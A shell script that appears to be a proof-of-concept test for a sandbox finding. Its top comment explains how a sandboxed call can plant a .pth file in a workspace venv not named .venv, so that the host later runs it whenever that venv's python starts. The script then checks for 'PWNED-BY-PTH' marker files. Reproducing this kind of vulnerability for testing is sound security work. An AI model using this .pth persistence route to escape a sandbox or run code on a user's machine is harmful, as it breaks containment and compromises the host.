#!/bin/sh
# F4: a workspace venv not named .venv (python -m venv venv / env / .env, the common names) is not protected: a call
# plants a .pth in its site-packages, the commit applies it, and every later start of that venv's python on the host
# (the user's venv/bin/python, pytest, an editor's Python extension probing the interpreter) runs it.
sh /work/notes/atk40/setup.sh
cd /tmp/atk40 && rm -rf ws/venv ws/.venv /tmp/atk40/PWNED-BY-PTH-*
/usr/bin/python3 -m venv --without-pip /tmp/atk40/ws/venv && /usr/bin/python3 -m venv --without-pip /tmp/atk40/ws/.venv
chown -R 65534:65534 ws/venv ws/.venv
python3 /work/notes/atk40/pyrun.py /tmp/atk40/py.toml /work/notes/atk40/f4_inside.py
echo "--- on the host, afterwards: the user starts the venv's python (any command)"
ls -la ws/venv/lib/python3*/site-packages/ ws/.venv/lib/python3*/site-packages/
/tmp/atk40/ws/venv/bin/python -c 'print("user ran venv/bin/python")'
ls -la /tmp/atk40/PWNED-BY-PTH-* 2>&1
